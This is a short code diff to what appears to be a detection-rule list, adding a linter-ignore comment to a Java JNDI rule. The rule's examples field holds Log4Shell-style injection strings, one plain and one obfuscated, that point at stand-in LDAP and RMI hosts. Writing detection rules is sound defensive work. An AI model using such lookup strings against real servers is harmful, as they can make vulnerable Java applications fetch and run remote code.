@@ -35,6 +35,7 @@ export const JAVA_RULES: Rule[] = [
     id: 'java-jndi',
     view: 'lower',
     operator: 'pattern',
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: Log4j lookups, not templates
     examples: ['${jndi:ldap://x.example/a}', '${${::-j}ndi:rmi://x/a}'],
     family: 'java',
     paranoia: 1,
